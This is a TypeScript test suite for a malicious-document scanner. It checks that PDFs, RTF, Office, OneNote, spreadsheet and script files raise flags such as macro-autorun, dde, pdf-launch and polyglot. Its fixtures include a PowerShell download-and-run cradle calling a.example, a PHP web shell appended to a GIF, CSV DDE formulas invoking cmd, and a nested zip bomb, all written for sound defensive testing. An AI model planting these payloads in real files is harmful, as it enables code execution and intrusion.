/** Documents, programs and scripts by content: each fact fires on what it is about, and not on the nearest honest file. */
import { existsSync, readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import t from 'tap';
import { zip } from '../src/cli/demo/zip.js';
import { fieldFlag, isElsewhere } from '../src/inspect/container/field-code.js';
import { lzwDecoded } from '../src/inspect/container/lzw.js';
import { isFormArithmetic } from '../src/inspect/container/pdf-facts.js';
import { decodeFilters } from '../src/inspect/container/pdf-filter.js';
import { PdfDictionary, PdfParser } from '../src/inspect/container/pdf-syntax.js';
import { scriptFlag } from '../src/inspect/container/script.js';
import { decompressVba } from '../src/inspect/container/vba.js';
import { xmlTags } from '../src/inspect/container/xml-tags.js';
import { categoryOf, type FileCategory } from '../src/inspect/file-category.js';
import { signatureType } from '../src/inspect/file-signature.js';
import { everyPart, type PartFlag } from '../src/inspect/report.js';
import {
  autoMacro,
  autoOpenName,
  compoundFile,
  elfFile,
  gifFile,
  macroWord,
  officePackage,
  ole10Native,
  oneNote,
  packaged,
  pdf,
  pdfObjectStream,
  pdfStream,
  plainMacro,
  pngFile,
  record,
  relationship,
  rtf,
  rtfObjectData,
  shortcutFile,
  windowsProgram,
  workbookStream,
} from './support/document-files.js';
import { ascii85, chunksOf, lzw, pdfForAll } from './support/encoders.js';
import { openDocument } from './support/open-document.js';
import { ownCpuMs } from './support/process-facts.js';

type Names = { readonly name?: string };
type Asserts = { ok(value: unknown, what: string): boolean; notOk(value: unknown, what: string): boolean };

/** The flag is there for the bad file and not for the good one. */
async function differs(test: Asserts, flag: PartFlag, bad: Buffer, good: Buffer, options: Names = {}): Promise<void> {
  test.ok((await openDocument(bad, options)).flags.includes(flag), `${flag} fires`);
  test.notOk((await openDocument(good, options)).flags.includes(flag), `${flag} stays quiet`);
}

const program = windowsProgram();
const catalogue = '<< /Type /Catalog /Pages 2 0 R >>';
const pages = '<< /Type /Pages /Kids [] /Count 0 >>';
const openToAll = pdfForAll('run.exe', program);
const text = (value: string) => Buffer.from(value, 'utf8');

t.test('programs of all systems are known by their headers, and texts with their letters are not', async (t) => {
  const machO = Buffer.concat([
    Buffer.from('cffaedfe', 'hex'),
    Buffer.alloc(8),
    Buffer.from('02000000', 'hex'),
    Buffer.alloc(32),
  ]);
  const javaClass = Buffer.concat([Buffer.from('cafebabe00000034', 'hex'), Buffer.alloc(32)]);
  const fat = Buffer.concat([Buffer.from('cafebabe00000002', 'hex'), Buffer.alloc(32)]);
  const dex = Buffer.concat([Buffer.from('dex\n035\0', 'latin1'), Buffer.alloc(32)]);
  const cases: [Buffer, string, FileCategory][] = [
    [program, 'application/vnd.microsoft.portable-executable', 'executable'],
    [windowsProgram(true), 'application/x-sharedlib', 'library'],
    [elfFile(true), 'application/x-executable', 'elf'],
    [elfFile(false), 'application/x-sharedlib', 'library'],
    [machO, 'application/x-mach-binary', 'executable'],
    [fat, 'application/x-mach-binary', 'executable'],
    [javaClass, 'application/x-java-applet', 'java'],
    [dex, 'application/vnd.android.dex', 'mobile'],
  ];
  for (const [content, type, category] of cases) {
    const { flags } = await openDocument(content, { name: 'picture.png' });
    t.same(flags, ['executable'], type);
    t.equal(signatureType(content), type);
    t.equal(categoryOf(type, flags, ['picture.png']), category, `${type} is ${category}`);
  }
  const mz = text('MZ is how a letter may begin, and it goes on for more than sixty-four bytes, as letters do.');
  t.same((await openDocument(mz)).flags, []);
  await differs(t, 'shortcut', shortcutFile, Buffer.concat([Buffer.from('4c000000', 'hex'), Buffer.alloc(80)]));
});

t.test('scripts and settings files are known by clear evidence', (t) => {
  const scripts: [string, PartFlag][] = [
    ['#!/bin/sh\necho hello\n', 'unix-script'],
    ['#@~^AbCdEf==x', 'script'],
    ['@echo off\r\ndel x\r\n', 'script'],
    ['Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER]\r\n', 'script'],
    ['Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', 'script'],
    ['var x = new ActiveXObject("WScript.Shell");\nx.Run("calc");\n', 'script'],
    ['$c = New-Object Net.WebClient\nIEX $c.DownloadString("http://a.example/x")\n', 'script'],
    ['<html><head><hta:application id="x"></head></html>', 'script'],
    ['<html><script>new ActiveXObject("WScript.Shell").Run("x")</script></html>', 'script'],
    ['<?xml version="1.0"?>\n<!-- a -->\n<job><script language="JScript">x()</script></job>', 'script'],
    ['<scriptlet><registration progid="x"/></scriptlet>', 'script'],
    ['<xsl:stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script>x</ms:script></xsl:stylesheet>', 'script'],
    ['[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n', 'script'],
    ['[InternetShortcut]\r\nURL=file://a.example/x\r\n', 'shortcut'],
    ['[Desktop Entry]\nType=Application\nExec=sh -c x\n', 'shortcut'],
    ['[Shell]\r\nCommand=2\r\nIconFile=\\\\a\\x.ico\r\n', 'shortcut'],
    ['WEB\r\n1\r\nhttp://a.example/x\r\n', 'shortcut'],
    ['<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"/>', 'shortcut'],
    [
      '<PCSettings><SearchableContent><ApplicationInformation><DeepLink>cmd</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
      'shortcut',
    ],
  ];
  for (const [script, flag] of scripts) t.equal(scriptFlag(script), flag, script.slice(0, 30));
  const quiet = [
    'Dear all,\n\nplease put this into the file and save it:\n\n  Set s = CreateObject("WScript.Shell")\n\nIt starts the program.\nThen tell me whether it works for you.\nI have tried it twice today.\n\nRegards\nAnna\n',
    'Run Start-Process first and then Invoke-WebRequest with the address that I sent.\nIf that fails call me.\nThanks a lot for your patience,\nBob\n',
    '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n',
    'import os\nimport sys\n\ndef main():\n    print(os.getcwd())\n',
    '<?xml version="1.0"?><project><component name="x"/></project>',
    '<package xmlns="http://www.idpf.org/2007/opf"><metadata/></package>',
    '[Settings]\nColour=red\n',
    'Name;Amount\nAnna;3\n',
    '<html><script>var x = new ActiveXObject("Microsoft.XMLHTTP")</script></html>',
    '# A heading\n\nSome *text*.\n',
  ];
  for (const honest of quiet) t.equal(scriptFlag(honest), undefined, honest.slice(0, 30));
  t.end();
});

t.test('scripts in UTF-16 are read, with a mark and without', async (t) => {
  const script = '@echo off\r\nstart x\r\n';
  const little = Buffer.from(script, 'utf16le');
  const big = Buffer.from(little).swap16();
  const mark = (bytes: string, content: Buffer) => Buffer.concat([Buffer.from(bytes, 'hex'), content]);
  for (const content of [little, big, mark('fffe', little), mark('feff', big), mark('efbbbf', text(script))]) {
    t.same((await openDocument(content)).flags, ['script']);
  }
});

t.test('PDF: embedded files are taken out, through every filter', async (t) => {
  const filters: [string, Buffer][] = [
    ['', program],
    ['/Filter /FlateDecode', deflateSync(program)],
    ['/Filter [/ASCIIHexDecode /Fl]', text(`${deflateSync(program).toString('hex')}>`)],
    ['/Filter /ASCIIHexDecode', text(`${program.toString('hex').replace(/(.{60})/g, '$1\n')}>`)],
    [
      '/Filter /RunLengthDecode',
      Buffer.concat([
        ...[...chunksOf(program, 128)].map((piece) => Buffer.concat([Buffer.from([piece.length - 1]), piece])),
        Buffer.from([128]),
      ]),
    ],
    ['/Filter /A85', text(ascii85(program))],
    [
      '/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 64 >>',
      deflateSync(Buffer.concat([...chunksOf(program, 64)].map((row) => Buffer.concat([Buffer.from([0]), row])))),
    ],
  ];
  for (const [filter, data] of filters) {
    const file = pdf([
      catalogue,
      pages,
      '<< /Type /Filespec /F (run.exe) /EF << /F 4 0 R >> >>',
      pdfStream(filter, data),
    ]);
    const opened = await openDocument(file);
    t.ok(opened.flags.includes('pdf-embedded-file'));
    t.match(
      opened.members,
      [{ names: ['run.exe'], flags: ['executable'], bytes: program.length }],
      filter || 'no filter',
    );
  }
  const later = pdf([catalogue, pages, pdfStream('/Type /EmbeddedFile', program, '4 0 R'), String(program.length)]);
  t.match((await openDocument(later)).members, [{ bytes: program.length }], 'with its length behind it');
  const byType = pdf([catalogue, pages, pdfStream('/Type /Embedded#46ile', program, '3')]);
  t.match((await openDocument(byType)).members, [{ flags: ['executable'] }], 'by its type, with a wrong length');
  const without = pdf([catalogue, pages, pdfStream('/Type /XObject /Subtype /Image', program)]);
  t.same((await openDocument(without)).members, [], 'a picture is no file');
});

t.test('PDF: what actions and scripts do is seen, in object streams and behind escaped names too', async (t) => {
  const plain = pdf([catalogue, pages, '<< /S /GoTo /D [2 0 R /Fit] >>']);
  await differs(t, 'pdf-launch', pdf([catalogue, '<< /S /Laun#63h /F (cmd.exe) >>']), plain);
  await differs(
    t,
    'pdf-launch',
    pdf(['<< /S /GoToR /F (\\\\\\\\a.example\\\\x) >>']),
    pdf(['<< /S /GoToR /F (other.pdf) >>']),
  );
  await differs(t, 'pdf-javascript', pdf(['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']), plain);
  await differs(
    t,
    'pdf-javascript',
    pdf(['<< /A << /S /JavaScript /JS 2 0 R >> >>', pdfStream('', text('this.exportDataObject()'))]),
    pdf([
      '<< /AA << /K << /S /JavaScript /JS 2 0 R >> >> >>',
      pdfStream('', text('AFNumber_Keystroke(2, 0, 0, 0, "", true);')),
    ]),
  );
  await differs(
    t,
    'pdf-javascript',
    pdf([pdfObjectStream(['<< /S /JavaScript /JS (x) >>'])]),
    pdf([pdfObjectStream([pages])]),
  );
  await differs(
    t,
    'pdf-javascript',
    pdf([
      '<< /XFA [(form) 2 0 R] >>',
      pdfStream('/Filter /FlateDecode', deflateSync(text('<script contentType="application/x-javascript">x</script>'))),
    ]),
    pdf([
      '<< /XFA [(form) 2 0 R] >>',
      pdfStream('/Filter /FlateDecode', deflateSync(text('<template><field/></template>'))),
    ]),
  );
  const hidden = pdf([pdfStream('', text('9 0 obj << /S /Launch >> endobj'))]);
  t.ok((await openDocument(hidden)).flags.includes('pdf-launch'), 'a table may lead a reader into a stream');
  t.ok(isFormArithmetic('AFSimple_Calculate("SUM", new Array ("a", "b"));'));
  t.notOk(isFormArithmetic('AFSimple_Calculate("SUM"); app.launchURL("x")'));
});

t.test('PDF: encrypted means that a password is needed', async (t) => {
  const locked = pdf(
    [catalogue, '<< /Filter /Standard /V 1 /R 2 /P -44 /O <00> /U <00> >>'],
    '/Encrypt 2 0 R /ID [<01> <01>]',
  );
  t.ok((await openDocument(locked)).flags.includes('encrypted'));
  t.notOk((await openDocument(openToAll)).flags.includes('encrypted'));
  t.match(
    (await openDocument(openToAll)).members,
    [{ names: ['run.exe'], flags: ['executable'] }],
    'and is looked into',
  );
});

t.test('RTF: packaged files are taken out whatever stands between their digits', async (t) => {
  const data = rtfObjectData('Package', packaged('run.exe', program));
  const half = Math.floor(data.length / 4) * 2;
  const [head, tail] = [data.slice(0, half), data.slice(half)];
  const bodies: Readonly<Record<string, string>> = {
    plain: `{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata ${data}}}`,
    'line ends and blanks': `{\\object{\\*\\objdata ${data.replace(/(..)/g, '$1 \r\n')}}}`,
    'control words': `{\\object{\\*\\objdata ${head}\\mmathPr12 ${tail}}}`,
    'a group of its own': `{\\object{\\*\\objdata ${head}{\\*\\foo 41414141}${tail}}}`,
    'digits in a group': `{\\object{\\*\\objdata ${head}{${tail}}}}`,
    'letters that are no digits': `{\\object{\\*\\objdata ${head}zz-zz${tail}}}`,
    'escaped letters': `{\\object{\\*\\objdata ${head}\\'41${tail}}}`,
    'raw bytes': `{\\object{\\*\\objdata \\bin${data.length / 2} ${Buffer.from(data, 'hex').toString('latin1')}}}`,
    'an unclosed group': `{\\object{\\*\\objdata ${data}`,
  };
  for (const [what, body] of Object.entries(bodies)) {
    const opened = await openDocument(rtf(body));
    t.ok(opened.flags.includes('rtf-object'), what);
    const found = [...everyPart(opened.members)].find(({ flags }) => flags.includes('executable'));
    t.match(found, { names: ['run.exe'], bytes: program.length }, what);
  }
  const short = Buffer.from(`{\\rt{\\object{\\*\\objdata ${data}}}}`);
  t.ok((await openDocument(short)).flags.includes('rtf-object'), 'Word is content with less of a beginning');
});

t.test('RTF: ordinary objects, pictures and templates are told from others', async (t) => {
  const sheet = rtf(
    `{\\object{\\*\\objdata ${rtfObjectData('Excel.Sheet.8', compoundFile({ Workbook: workbookStream(0) }))}}}`,
  );
  const equation = rtf(`{\\object{\\*\\objdata ${rtfObjectData('Equation.3', Buffer.alloc(64))}}}`);
  await differs(t, 'rtf-object', equation, sheet);
  await differs(t, 'embedded-object', sheet, rtf('{\\pict\\pngblip 89504e470d0a1a0a}'));
  await differs(
    t,
    'rtf-object',
    rtf(`\\objupdate{\\object{\\*\\objdata ${rtfObjectData('Excel.Sheet.8', Buffer.alloc(64))}}}`),
    sheet,
  );
  await differs(
    t,
    'external-template',
    rtf('{\\*\\template http://a.example/x.dotm}'),
    rtf('{\\*\\template C:\\\\x.dotm}'),
  );
  await differs(
    t,
    'dde',
    rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe "/k"}}'),
    rtf('{\\field{\\*\\fldinst PAGE}}'),
  );
});

t.test('targets elsewhere are those that a stranger can answer for', (t) => {
  const elsewhere = [
    'http://a.example/x',
    'HTTPS://a',
    '\\\\a.example\\x\\y',
    'file:///\\\\10.0.0.1\\x\\y',
    '//a@80/x/y',
    'mhtml:http://a',
  ];
  const here = ['Normal.dotm', 'C:\\x.dotx', 'file:///C:\\x.dotx', '\\\\server\\share\\x.dotx', '../x.dotx'];
  for (const target of elsewhere) t.ok(isElsewhere(target), target);
  for (const target of here) t.notOk(isElsewhere(target), target);
  t.equal(fieldFlag('DDE "cmd" "/c x"'), 'dde');
  t.equal(fieldFlag('HYPERLINK "http://a.example"'), undefined);
  t.equal(fieldFlag('INCLUDETEXT "http://a.example/x"'), 'external-template');
  t.end();
});

t.test('Office packages: macros, and whether they run by themselves', async (t) => {
  const plain = officePackage({});
  t.same((await openDocument(plain, { name: 'a.docx' })).flags, []);
  const auto = officePackage({ 'word/vbaProject.bin': autoMacro }, macroWord);
  const manual = officePackage({ 'word/vbaProject.bin': plainMacro }, macroWord);
  await differs(t, 'macro', manual, plain);
  await differs(t, 'macro-autorun', auto, manual);
  await differs(t, 'type-conflict', auto, plain, { name: 'a.docx' });
  t.notOk((await openDocument(auto, { name: 'a.docm' })).flags.includes('type-conflict'), 'as .docm it is no conflict');
  const stomped = compoundFile({
    'VBA/dir': Buffer.alloc(20),
    'VBA/_VBA_PROJECT': text('xx AutoOpen yy'),
    'VBA/Module1': Buffer.alloc(64),
  });
  t.ok(
    (await openDocument(officePackage({ 'word/vbaProject.bin': stomped }))).flags.includes('macro-autorun'),
    'without source',
  );
  const sheet = (name: string) => officePackage({ [`xl/${name}/sheet1.xml`]: '<x/>' });
  await differs(t, 'macro-sheet', sheet('macrosheets'), sheet('worksheets'));
  const names = (name: string) =>
    officePackage({ 'xl/workbook.xml': `<workbook><definedName name="${name}">x</definedName></workbook>` });
  await differs(t, 'macro-autorun', names('_xlnm.Auto_Open'), names('_xlnm.Print_Area'));
});

t.test('Office packages: targets, objects and fields', async (t) => {
  const related = (type: string, target: string, mode?: string) =>
    officePackage({ 'word/_rels/settings.xml.rels': relationship(type, target, mode) });
  const template = related('attachedTemplate', 'http://a.example/x.dotm');
  await differs(t, 'external-template', template, related('hyperlink', 'http://a.example/'));
  await differs(t, 'external-template', template, related('attachedTemplate', 'file:///C:\\x.dotm'));
  await differs(
    t,
    'external-template',
    related('oleObject', '&#x68;ttp://a.example/x'),
    related('image', 'http://a.example/x.png'),
  );
  await differs(t, 'external-template', template, related('externalLinkPath', 'https://a.example/book.xlsx'));
  const wide = Buffer.concat([
    Buffer.from('fffe', 'hex'),
    Buffer.from(relationship('frame', 'http://a.example/x'), 'utf16le'),
  ]);
  await differs(t, 'external-template', officePackage({ 'word/_rels/document.xml.rels': wide }), officePackage({}));
  const embedded = (name: string) => officePackage({ [`word/embeddings/${name}`]: 'x' });
  await differs(t, 'embedded-object', embedded('oleObject1.bin'), embedded('Microsoft_Excel_Sheet1.xlsx'));
  const field = (instruction: string) => officePackage({ 'word/document.xml': `<w:p>${instruction}</w:p>` });
  await differs(
    t,
    'dde',
    field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText>'),
    field('<w:instrText>PAGE</w:instrText><w:t>DDEAUTO cmd in prose</w:t>'),
  );
  const slide = (action: string) =>
    officePackage({ 'ppt/slides/slide1.xml': `<a:hlinkMouseOver action="${action}"/>` });
  await differs(t, 'dde', slide('ppaction://program'), slide('ppaction://hlinksldjump'));
  const link = (content: string) => officePackage({ 'xl/externalLinks/externalLink1.xml': content });
  await differs(
    t,
    'dde',
    link('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>'),
    link('<externalLink><externalBook/></externalLink>'),
  );
});

t.test('OpenDocument: macros, events and encryption', async (t) => {
  const open = (parts: Readonly<Record<string, string>>) =>
    zip(
      Object.entries({
        mimetype: 'application/vnd.oasis.opendocument.text',
        'META-INF/manifest.xml': '<manifest:manifest/>',
        ...parts,
      }).map(([name, content]) => ({ name, content: Buffer.from(content) })),
    );
  const plain = open({ 'Basic/Standard/script-lb.xml': '<x/>', 'content.xml': '<office:document-content/>' });
  await differs(t, 'macro', open({ 'Basic/Standard/Module1.xml': '<x/>' }), plain);
  await differs(t, 'macro', open({ 'Scripts/python/x.py': 'x' }), plain);
  const event = (name: string) =>
    open({ 'content.xml': `<script:event-listener script:event-name="${name}" xlink:href="vnd.sun.star.script:x"/>` });
  await differs(t, 'macro-autorun', event('dom:load'), event('form:approveaction'));
  const encrypted =
    '<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>';
  await differs(t, 'encrypted', open({ 'META-INF/manifest.xml': encrypted }), plain);
});

t.test('binary documents: macros, objects, fields and encryption', async (t) => {
  const fib = (flags: number) =>
    Buffer.concat([Buffer.alloc(10), Buffer.from([flags & 0xff, flags >> 8]), Buffer.alloc(600)]);
  const plain = compoundFile({ WordDocument: fib(0) });
  await differs(t, 'macro', plainMacro, plain);
  await differs(t, 'macro-autorun', autoMacro, plainMacro);
  await differs(t, 'encrypted', compoundFile({ WordDocument: fib(0x0100) }), plain);
  await differs(
    t,
    'encrypted',
    compoundFile({ EncryptedPackage: Buffer.alloc(64), EncryptionInfo: Buffer.alloc(64) }),
    plain,
  );
  const field = (instruction: string) =>
    compoundFile({ WordDocument: Buffer.concat([fib(0), text(`\x13 ${instruction} \x14x\x15`)]) });
  await differs(t, 'dde', field('DDEAUTO cmd "/k x"'), field('HYPERLINK "http://a.example/"'));
  const object = compoundFile({
    WordDocument: fib(0),
    'ObjectPool/_123/\x01Ole10Native': ole10Native('run.exe', program),
  });
  await differs(t, 'embedded-object', object, plain);
  t.match((await openDocument(object)).members, [{ names: ['run.exe'], flags: ['executable'] }]);
  const link = (address: string) =>
    compoundFile({ '\x01Ole': Buffer.concat([Buffer.alloc(20), Buffer.from(address, 'utf16le')]) });
  await differs(t, 'external-template', link('http://a.example/x.hta'), link('C:\\x\\y.xls'));
});

t.test('binary workbooks: macro sheets, data exchange and encryption', async (t) => {
  const book = (...parts: Parameters<typeof workbookStream>) => compoundFile({ Workbook: workbookStream(...parts) });
  await differs(t, 'macro-sheet', book(1), book(0));
  await differs(t, 'macro-autorun', book(1, autoOpenName), book(1));
  t.notOk((await openDocument(book(0, autoOpenName))).flags.includes('macro-autorun'), 'a name without a macro sheet');
  await differs(t, 'encrypted', book(0, record(0x2f, Buffer.alloc(54))), book(0));
  const supBook = (link: string) => record(0x1ae, Buffer.concat([Buffer.from([0, 0, link.length, 0, 0]), text(link)]));
  await differs(t, 'dde', book(0, supBook('cmd\x03/c x')), book(0, supBook('\x01\x01Cother.xls')));
  await differs(t, 'macro-sheet', workbookStream(1), workbookStream(0));
});

t.test('text spreadsheets: formulas that start a program, and macros in SYLK', async (t) => {
  const cell = (value: string) => text(`Name,Sum\r\nA,${value}\r\nB,2\r\n`);
  for (const bad of ["=cmd|' /C calc'!A0", "-2+3+cmd|'/c x'!D2", "@SUM(1+9)*cmd|'/c x'!A0", '"=cmd|\'/c x\'!A0"']) {
    await differs(t, 'dde', cell(bad), cell('=A1+1'));
  }
  await differs(
    t,
    'dde',
    text("ID;P\r\nC;Y1;X1;K0;Ecmd|'/c x'!A0\r\nE\r\n"),
    text('ID;P\r\nC;Y1;X1;K0;ESUM(A1)\r\nE\r\n'),
  );
  t.same((await openDocument(text("It costs 3 | 'five'! as I said, and x|'y'! too.\n"))).flags, [], 'prose');
  const sylk = (option: string) => text(`ID;P\r\n${option}\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("x")\r\nE\r\n`);
  await differs(t, 'macro-sheet', sylk('O;E'), sylk('O;L'));
  await differs(t, 'macro-autorun', sylk('O;E'), sylk('O;L'));
});

t.test('OneNote: files behind the page are taken out, pictures are nothing', async (t) => {
  await differs(t, 'onenote-file', oneNote([pngFile, text('MsgBox 1')], ' Z:\\x\\Open.vbs'), oneNote([pngFile]));
  const [picture, file] = (await openDocument(oneNote([pngFile, text('MsgBox 1')], ' Z:\\x\\Open.vbs'))).members;
  t.same(picture?.names, []);
  t.same(file?.names, ['Open.vbs']);
});

t.test('polyglots are two formats in one, and joined formats are none', async (t) => {
  const archive = zip([{ name: 'run.exe', content: program }]);
  const joined = (...pieces: Buffer[]) => Buffer.concat(pieces);
  const plain = pdf([catalogue, pages]);
  await differs(t, 'polyglot', joined(pngFile, archive), pngFile);
  await differs(
    t,
    'polyglot',
    joined(plain, archive),
    pdf([catalogue, pages, pdfStream('/Type /EmbeddedFile', archive), ...Array.from({ length: 40 }, () => catalogue)]),
  );
  await differs(
    t,
    'polyglot',
    joined(gifFile, text('<?php system($_GET[0]); ?>')),
    joined(gifFile, text('<x:xmpmeta><?xpacket?>')),
  );
  await differs(t, 'polyglot', text('GIF89a/*aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa*/=1;alert(1)'), gifFile);
  await differs(t, 'polyglot', joined(pngFile, Buffer.from('Rar!\x1a\x07\x01\0', 'latin1')), pngFile);
  await differs(
    t,
    'polyglot',
    joined(plain, text('MIME-Version: 1.0\nContent-Type: application/x-mso\n')),
    joined(plain, text('\n\n')),
  );
  const image = Buffer.concat([plain, Buffer.alloc(32_769 - plain.length), Buffer.from('CD001\x01\0')]);
  await differs(t, 'polyglot', image, plain);
  t.notOk((await openDocument(joined(program, archive))).flags.includes('polyglot'), 'a self-extracting program');
});

t.test('signatures tell compound files apart, and other types that matter', (t) => {
  const types: [Buffer, string | undefined][] = [
    [compoundFile({ WordDocument: Buffer.alloc(100) }), 'application/msword'],
    [compoundFile({ Workbook: Buffer.alloc(100) }), 'application/vnd.ms-excel'],
    [compoundFile({ 'PowerPoint Document': Buffer.alloc(100) }), 'application/vnd.ms-powerpoint'],
    [compoundFile({ '__properties_version1.0': Buffer.alloc(100) }), 'application/vnd.ms-outlook'],
    [compoundFile({ Other: Buffer.alloc(100) }), 'application/x-ole-storage'],
    [shortcutFile, 'application/x-ms-shortcut'],
    [oneNote([]), 'application/onenote'],
    [rtf('x'), 'text/rtf'],
    [Buffer.concat([Buffer.alloc(32_769), Buffer.from('CD001\x01\0')]), 'application/x-iso9660-image'],
    [text('nothing that is known'), undefined],
  ];
  for (const [content, type] of types) t.equal(signatureType(content), type);
  t.end();
});

t.test('categories: content decides, names only where it says nothing', (t) => {
  const cases: [string | undefined, readonly PartFlag[], readonly string[], FileCategory][] = [
    ['application/pdf', [], ['run.exe'], 'pdf'],
    ['message/rfc822', [], [], 'pdf'],
    ['application/zip', [], ['a.zip'], 'archive'],
    ['application/zip', [], ['a.jar'], 'java'],
    ['application/vnd.android.package-archive', [], [], 'mobile'],
    ['application/x-msi', [], [], 'os-package'],
    ['application/x-shockwave-flash', [], [], 'rich-application'],
    ['text/plain', [], ['settings.ini'], 'configuration'],
    ['text/plain', ['script'], ['notes.txt'], 'script'],
    ['image/png', [], ['run.exe'], 'other'],
    [undefined, [], ['report.doc', 'report.exe'], 'executable'],
    [undefined, [], [], 'other'],
  ];
  for (const [type, flags, names, category] of cases) {
    t.equal(categoryOf(type, flags, names), category, `${type} ${flags.join()} ${names.join()}`);
  }
  t.end();
});

t.test('no damage makes an opener fail, and none of it hides the rest for long', async (t) => {
  const samples = [
    pdf([
      catalogue,
      '<< /F (run.exe) /EF << /F 3 0 R >> >>',
      pdfStream('/Filter /FlateDecode', deflateSync(program)),
      pdfObjectStream([pages]),
    ]),
    rtf(`{\\object{\\*\\objdata ${rtfObjectData('Package', packaged('run.exe', program))}}}`),
    officePackage({ 'word/vbaProject.bin': autoMacro, 'word/_rels/a.rels': relationship('frame', 'http://a.example') }),
    compoundFile({
      'ObjectPool/_1/\x01Ole10Native': ole10Native('run.exe', program),
      Workbook: workbookStream(1, autoOpenName),
    }),
    oneNote([program], 'x.exe'),
    openToAll,
  ];
  let problems = 0;
  for (const sample of samples) {
    const step = Math.max(1, Math.floor(sample.length / 150));
    for (let at = 0; at < sample.length; at += step) {
      problems += (await openDocument(sample.subarray(0, at))).problems.filter(
        (code) => code === 'unpack-limit',
      ).length;
      const flipped = Buffer.from(sample);
      flipped[at] = (flipped[at] ?? 0) ^ 0xff;
      await openDocument(flipped);
      flipped.fill(0xff, at, Math.min(at + 4, flipped.length));
      await openDocument(flipped);
    }
  }
  t.equal(problems, 0, 'a file that was cut is no bomb');
});

t.test('bombs end at a bound', async (t) => {
  let bomb = deflateSync(Buffer.alloc(400_000_000), { level: 9 });
  bomb = deflateSync(bomb, { level: 9 });
  const filters = '/Filter [/FlateDecode /FlateDecode]';
  const opened = await openDocument(pdf([catalogue, pages, pdfStream(`/Type /EmbeddedFile ${filters}`, bomb)]));
  t.ok(opened.problems.includes('unpack-limit'));
  const many = `/Filter [${'/ASCIIHexDecode '.repeat(50)}]`;
  const chain = await openDocument(pdf([pdfStream(`/Type /EmbeddedFile ${many}`, text('41'))]));
  t.ok(chain.problems.includes('unpack-limit'), 'a chain of filters');
  t.same(decompressVba(Buffer.from([1, 0x00, 0xb0, 0xff]), 1_000_000).length, 0);
});

t.test('hostile texts cost time that is linear in their size', async (t) => {
  const megabytes = 4_000_000;
  const of = (piece: string) => Buffer.from(piece.repeat(Math.ceil(megabytes / piece.length)), 'latin1');
  const start = (head: string, piece: string) => Buffer.concat([Buffer.from(head, 'latin1'), of(piece)]);
  const hostile: Readonly<Record<string, Buffer>> = {
    'PDF objects in each other': start('%PDF-1.7\n', '1 0 obj ['),
    'PDF strings without end': start('%PDF-1.7\n', '1 0 obj ('),
    'PDF streams without end': start('%PDF-1.7\n', '1 0 obj<<>>stream\n'),
    'PDF dictionaries of one key': start('%PDF-1.7\n1 0 obj <<', '/S /GoToR '),
    'PDF trailers': start('%PDF-1.7\n', 'trailer <<'),
    'RTF groups': start('{\\rtf1', '{'),
    'RTF objects in each other': start('{\\rtf1', '{\\*\\objdata 0'),
    'field characters': compoundFile({ WordDocument: of('\x13A') }),
    'XML tags': officePackage({ 'word/document.xml': `<a>${'<w:instrText a="'.repeat(100_000)}` }),
    'formula marks': of("|'!"),
    'script blanks': of(' \n'),
    'script words': of('$env:a = IEX '),
    'OneNote texts': Buffer.concat([oneNote([]), of('a\0.\0')]),
    'RTF objects': start('{\\rtf1', '{\\*\\objdata 41}'),
    'OneNote classes': start('', Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex').toString('latin1')),
  };
  for (const [what, content] of Object.entries(hostile)) {
    const began = ownCpuMs();
    await openDocument(content);
    const ms = Math.round(ownCpuMs() - began);
    t.ok(ms < 8000, `${what}: ${ms} ms`);
  }
});

t.test('what the small decoders give is what went in', async (t) => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 600 }), async (bytes) => {
      const content = Buffer.from(bytes);
      const dictionary = new PdfParser(text('<< /Filter /A85 >>'), 0).read();
      if (!(dictionary instanceof PdfDictionary)) throw new Error('no dictionary');
      const { content: decoded } = await decodeFilters(text(ascii85(content)), dictionary, 1_000_000);
      return decoded.equals(content) && lzwDecoded(lzw(content), true, 1_000_000).equals(content);
    }),
    { numRuns: 200 },
  );
  const tags = [...xmlTags('<!-- <b x="no"/> --><a:b c:x="1>2" y=\'&amp;&#65;\'>t&lt;</a:b>', new Set(['b']))];
  t.match(
    tags.map(({ name, text: content, attributes }) => [name, content, ...attributes]),
    [['b', 't<', ['x', '1>2'], ['y', '&A']]],
  );
});

const folder = '/usr/share/clamav-testfiles';
t.test('files of other programs that hold a program give it up', { skip: !existsSync(folder) }, async (t) => {
  for (const name of ['clam.pdf', 'clam.ppt', 'clam.ole.doc', 'clam.exe.rtf']) {
    const opened = await openDocument(readFileSync(`${folder}/${name}`));
    const found = [...everyPart(opened.members)].some(
      ({ flags, bytes }) => flags.includes('executable') && bytes === 544,
    );
    t.ok(found, name);
  }
});
